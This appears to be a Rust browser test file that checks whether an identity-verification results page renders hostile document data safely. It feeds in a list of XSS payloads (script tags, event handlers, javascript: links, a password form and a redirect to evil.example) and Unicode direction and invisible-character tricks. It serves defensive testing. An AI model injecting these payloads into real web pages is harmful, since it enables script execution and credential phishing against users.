//! Documents that were made to harm whoever looks at their data.

use serde_json::{Map, Value, json};
use webkyc_test_kit::{browser::Browser, driver::Options};

use crate::{
    embed,
    pages::{begin, identify, sees_the_results},
    setup::test_in,
    site::Building,
    stack::Stack,
};

/// Each would leave a trace of its own if it were anything but text.
const MARKUP: [&str; 24] = [
    "<script>window.pwned = 1</script>",
    "</script><script>window.pwned = 2</script>",
    "<img src=x onerror=window.pwned=3>",
    "<svg onload=window.pwned=4></svg>",
    "<svg><script href=data:,window.pwned=5 /></svg>",
    "\"><img src=x onerror=\"window.pwned=6\">",
    "' autofocus onfocus='window.pwned=7' tabindex='1",
    "</bdi></dd></dl></section></main></body></html><h1 id=injected>",
    "--><script>window.pwned = 8</script><!--",
    "<!--",
    "]]><script>window.pwned = 9</script>",
    "<style>* { display: none !important }</style>",
    "<iframe srcdoc=\"<script>top.pwned = 10</script>\"></iframe>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<base href=https://evil.example/>",
    "<a href=javascript:window.pwned=11>Your passport</a>",
    "javascript:window.pwned=12",
    "<form action=https://evil.example/><input name=password autofocus>",
    "<details open ontoggle=window.pwned=13>",
    "<template shadowrootmode=open><slot></slot></template>",
    "{{constructor.constructor('window.pwned=14')()}}",
    "${window.pwned=15} `${window.pwned=15}`",
    "&lt;script&gt;window.pwned=16&lt;/script&gt; &#x202e; &shy;",
    "%3Cscript%3Ewindow.pwned%3D17%3C%2Fscript%3E \\u003cscript\\u003e",
];

/// What hides, or turns what follows, and how it is spelt out.
const TRICKS: [(&str, &str); 9] = [
    ("gnp\u{202e}1234\u{202c}", "gnp[U+202E]1234[U+202C]"),
    ("A\u{2066}B\u{2069}C", "A[U+2066]B[U+2069]C"),
    ("A\u{200e}\u{200f}\u{061c}B", "A[U+200E][U+200F][U+061C]B"),
    (
        "S\u{200b}C\u{200d}H\u{feff}M\u{00ad}",
        "S[U+200B]C[U+200D]H[U+FEFF]M[U+00AD]",
    ),
    (
        "A\u{0}B\u{7}\u{1b}[2J\u{7f}",
        "A[U+0000]B[U+0007][U+001B][2J[U+007F]",
    ),
    ("A\r\nB\tC\u{85}", "A[U+000D][U+000A]B[U+0009]C[U+0085]"),
    ("A\u{2028}B\u{2029}C", "A[U+2028]B[U+2029]C"),
    ("A\u{e0041}\u{e007f}", "A[U+E0041][U+E007F]"),
    ("\u{3164}\u{115f}\u{ffa0}", "[U+3164][U+115F][U+FFA0]"),
];

/// Bytes of a text without end: more than is shown many times over, and as much as the sandbox can be
/// told to answer.
const ENDLESS: usize = 45_000;

const FIELDS: [&str; 16] = [
    "documentType",
    "documentNumber",
    "issuingCountry",
    "jurisdiction",
    "nationality",
    "surnameAndGivenNames",
    "surname",
    "givenNames",
    "nameSuffixes",
    "namePrefixes",
    "sex",
    "dateOfBirth",
    "dateOfIssue",
    "dateOfExpiry",
    "address",
    "licenseClass",
];

/// A details answer of three documents in which `text` of a running number stands in every field.
fn details(text: impl Fn(usize) -> String) -> Value {
    let mut count = 0;
    let mut next = || {
        count += 1;
        Value::String(text(count - 1))
    };
    let mut answer = Map::new();
    for name in ["id", "platform", "startTime", "endTime"] {
        answer.insert(name.to_owned(), next());
    }
    for name in ["documentData", "documentData2", "documentData3"] {
        let mut document: Map<_, _> = FIELDS
            .map(|field| (field.to_owned(), next()))
            .into_iter()
            .collect();
        let mut class = || json!({"from": next(), "to": next(), "notes": next()});
        // A name stands once: in the table its place depends on it.
        let classes = json!({ text(1000): class(), "plain": class() });
        document.insert("licenseClassDetails".to_owned(), classes);
        answer.insert(name.to_owned(), Value::Object(document));
    }
    Value::Object(answer)
}

/// All that a page could be made to do, noticed from its first moment.
pub(crate) async fn watch(browser: &Browser) {
    let source = "window.violations = [];
        document.addEventListener('securitypolicyviolation', (event) =>
            window.violations.push(`${event.violatedDirective} ${event.blockedURI}`));
        for (const name of ['alert', 'confirm', 'prompt', 'open'])
            window[name] = () => { window.pwned = name; };
        addEventListener('hashchange', () => { window.pwned = 'hash'; });";
    browser
        .devtools(
            "Page.addScriptToEvaluateOnNewDocument",
            json!({"source": source}),
        )
        .await;
}

/// The page itself, or the first element's tree.
#[derive(Clone, Copy)]
enum Place {
    Portal,
    Element,
}

impl Place {
    fn root(self) -> &'static str {
        match self {
            Self::Portal => "document",
            Self::Element => "document.querySelector('authenteq-results').shadowRoot",
        }
    }

    /// Shows the details that the sandbox has now.
    async fn show_again(self, browser: &Browser) {
        browser.client.refresh().await.unwrap();
        self.sees_the_results(browser).await;
    }

    async fn sees_the_results(self, browser: &Browser) {
        match self {
            Self::Portal => sees_the_results(browser).await,
            Self::Element => embed::sees_the_results(browser).await,
        }
        let root = self.root();
        let reveal = format!(
            "for (const button of {root}.querySelectorAll('[data-test=reveal]')) button.click();"
        );
        browser.run(&reveal).await;
    }

    /// How often each kind of element is there, and which attributes could run something.
    async fn structure(self, browser: &Browser) -> Value {
        let root = self.root();
        let script = format!(
            "const count = {{}};
            const count_below = (place) => place.querySelectorAll('*').forEach((e) => {{
                count[e.localName] = (count[e.localName] ?? 0) + 1;
                for (const {{ name, value }} of e.attributes)
                    if (name.startsWith('on') || /^\\s*(javascript|data):/i.test(value)
                        && !name.startsWith('data-'))
                        count[`${{e.localName}} ${{name}}`] = value;
            }});
            count_below(document);
            if ({root} !== document) count_below({root});
            return count"
        );
        browser.run(&script).await
    }

    /// What a visitor reads in each field, and as the name of each class of a licence.
    async fn read(self, browser: &Browser) -> Vec<(String, String)> {
        let root = self.root();
        let script = format!(
            "const seen = [...{root}.querySelectorAll('[data-field]')]
                .map((e) => [e.dataset.field, e.textContent]);
            const names = [...{root}.querySelectorAll('th[scope=row]')]
                .map((e) => ['class', e.textContent]);
            return seen.concat(names)"
        );
        serde_json::from_value(browser.run(&script).await).unwrap()
    }

    async fn assert_harmless(self, browser: &Browser, of: &str) {
        let root = self.root();
        let script = format!(
            "const page = document.documentElement;
            const pictures = [...{root}.querySelectorAll('img:not([data-image])')].length;
            return [window.pwned ?? null, window.violations, pictures,
                page.scrollWidth > page.clientWidth, document.title.includes('<')]"
        );
        let seen = browser.run(&script).await;
        assert_eq!(seen, json!([null, [], 0, false, false]), "{of}");
    }
}

/// The value in the details at the end of a path of the page.
fn issued<'a>(details: &'a Value, path: &str) -> &'a str {
    let members = ["documentData", "documentData2", "documentData3"];
    let Some(path) = path.strip_prefix("documents.") else {
        return details[path].as_str().unwrap();
    };
    let (index, field) = path.split_once('.').unwrap();
    let document = &details[members[index.parse::<usize>().unwrap()]];
    let Some(class) = field.strip_prefix("licenseClassDetails.") else {
        return document[field].as_str().unwrap();
    };
    let (name, member) = class.rsplit_once('.').unwrap();
    document["licenseClassDetails"][name][member]
        .as_str()
        .unwrap()
}

async fn markup_is_text(stack: &Stack, browser: &Browser, place: Place) {
    stack
        .answer_details(&details(|_| "plain".to_owned()).to_string())
        .await;
    place.show_again(browser).await;
    // The name of the class that is not `plain` is the same here: one row less.
    stack
        .answer_details(&details(|number| format!("plain {number}")).to_string())
        .await;
    place.show_again(browser).await;
    let structure = place.structure(browser).await;
    assert!(structure["bdi"].as_u64() > Some(60), "{structure}");
    for round in 0..MARKUP.len() {
        let text = |number: usize| MARKUP[(number + round) % MARKUP.len()].to_owned();
        let details = details(text);
        stack.answer_details(&details.to_string()).await;
        place.show_again(browser).await;
        place.assert_harmless(browser, text(0).as_str()).await;
        let found = place.structure(browser).await;
        assert_eq!(found, structure, "round {round}");
        let read = place.read(browser).await;
        assert_eq!(read.len(), 4 + 3 * (16 + 6) + 6, "{read:#?}");
        for (path, text) in read {
            if path == "class" {
                let name = MARKUP[(1000 + round) % MARKUP.len()];
                assert!(text == name || text == "plain", "{text}");
            } else {
                assert_eq!(text, issued(&details, &path), "{path}");
            }
        }
    }
    let console = browser.console().await;
    let policy = |line: &String| line.contains("Content Security Policy");
    assert!(!console.iter().any(policy), "{console:#?}");
}

async fn tricks_are_seen(stack: &Stack, browser: &Browser, place: Place) {
    for round in 0..TRICKS.len() {
        let trick = |number: usize| TRICKS[(number + round) % TRICKS.len()];
        let details = details(|number| trick(number).0.to_owned());
        stack.answer_details(&details.to_string()).await;
        place.show_again(browser).await;
        place.assert_harmless(browser, trick(0).1).await;
        for (path, text) in place.read(browser).await {
            if path != "class" {
                let issued = issued(&details, &path);
                let (_, spelt) = TRICKS.iter().find(|(trick, _)| *trick == issued).unwrap();
                assert_eq!(text, *spelt, "{path}");
            }
        }
    }
    // Without a place to break it, all of line breaks, and all of combining marks.
    for (field, letter) in [
        ("surname", "W"),
        ("address", "^"),
        ("givenNames", "a\u{300}\u{20dd}"),
    ] {
        let endless = letter.repeat(ENDLESS / letter.len());
        let answer = json!({"documentData": {field: endless, "sex": "F",
            "licenseClassDetails": {&letter.repeat(4200 / letter.len()): {"notes": letter.repeat(4200 / letter.len())}}}});
        stack.answer_details(&answer.to_string()).await;
        place.show_again(browser).await;
        place.assert_harmless(browser, letter).await;
        let read = place.read(browser).await;
        let (_, text) = read.iter().find(|(path, _)| path.ends_with(field)).unwrap();
        assert!(text.ends_with('…') && text.len() < 4200, "{}", text.len());
        assert!(read.contains(&("documents.0.sex".to_owned(), "Female".to_owned())));
    }
    browser
        .screenshot(match place {
            Place::Portal => "endless-texts",
            Place::Element => "endless-texts-in-page",
        })
        .await;
}

fn phone() -> Options {
    Options {
        is_phone: true,
        ..Options::default()
    }
}

async fn on_the_portal(body: impl AsyncFnOnce(&mut Stack, &Browser)) {
    test_in(phone(), async |stack, browser| {
        watch(browser).await;
        begin(stack, browser).await;
        identify(browser, "john").await;
        sees_the_results(browser).await;
        body(stack, browser).await;
    })
    .await;
}

async fn in_the_element(body: impl AsyncFnOnce(&mut Stack, &Browser)) {
    let building = Building::of_example().await;
    embed::same_origin_in(phone(), building, None, async |stack, browser, site| {
        watch(browser).await;
        browser.open_page(&site.url("localhost")).await;
        embed::press(browser).await;
        identify(browser, "john").await;
        embed::sees_the_results(browser).await;
        body(stack, browser).await;
    })
    .await;
}

#[tokio::test]
async fn con_01_markup_in_any_field_is_text_on_the_portal() {
    on_the_portal(async |stack, browser| markup_is_text(stack, browser, Place::Portal).await).await;
}

#[tokio::test]
async fn con_01_markup_in_any_field_is_text_in_the_element() {
    in_the_element(async |stack, browser| markup_is_text(stack, browser, Place::Element).await)
        .await;
}

#[tokio::test]
async fn con_02_what_hides_turns_or_has_no_end_is_seen_on_the_portal() {
    on_the_portal(async |stack, browser| tricks_are_seen(stack, browser, Place::Portal).await)
        .await;
}

#[tokio::test]
async fn con_02_what_hides_turns_or_has_no_end_is_seen_in_the_element() {
    in_the_element(async |stack, browser| tricks_are_seen(stack, browser, Place::Element).await)
        .await;
}

#[tokio::test]
async fn con_02_half_a_character_is_shown_as_one_that_cannot_be_read() {
    on_the_portal(async |stack, browser| {
        let answer = r#"{"documentData": {"surname": "half \ud83d a face", "sex": "F"}}"#;
        stack.answer_details(answer).await;
        browser.client.refresh().await.unwrap();
        let shown = "const field = document.querySelector('[data-field$=surname]');
            return field?.textContent";
        let shown = browser.wait_for_script(shown).await;
        assert_eq!(shown, "half \u{fffd} a face");
    })
    .await;
}
